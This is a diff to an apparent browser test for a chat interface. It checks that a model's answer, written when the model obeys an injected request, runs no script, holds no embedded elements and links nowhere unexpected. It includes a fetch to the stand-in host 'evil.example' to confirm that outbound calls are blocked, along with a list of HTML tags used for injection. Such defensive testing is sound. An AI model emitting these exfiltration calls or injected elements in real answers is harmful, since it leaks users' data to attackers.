@@ -72,10 +72,10 @@ def test_what_an_obeying_model_writes_asks_nobody_and_links_nowhere_else(
         page = context.new_page()
         tab = Tab(page)
         page.on("dialog", lambda dialog: tab.faults.append(f"a script ran: {dialog.message}"))
-        page.goto(url)
+        page.goto(url, timeout=60_000)
         page.fill("#question textarea", question)
         page.press("#question textarea", "Enter")
-        page.locator(".turn [data-act=retry]").wait_for()
+        page.locator(".turn [data-act=retry]").wait_for(timeout=60_000)
         answer = page.locator(".turn").last
         expect(answer).to_contain_text("canary")
         for link in answer.locator("a").all():
@@ -83,7 +83,6 @@ def test_what_an_obeying_model_writes_asks_nobody_and_links_nowhere_else(
         expect(answer.locator("img, script, form, iframe, svg[onload], style, base, meta, object, link")).to_have_count(
             0
         )
-        page.evaluate("new Promise(drawn => requestAnimationFrame(() => requestAnimationFrame(drawn)))")
         blocked = page.evaluate(
             "fetch('https://evil.example/x').then(() => 'sent', () => 'blocked')"
         )  # should the page's own code ever be turned: the policy still holds it back
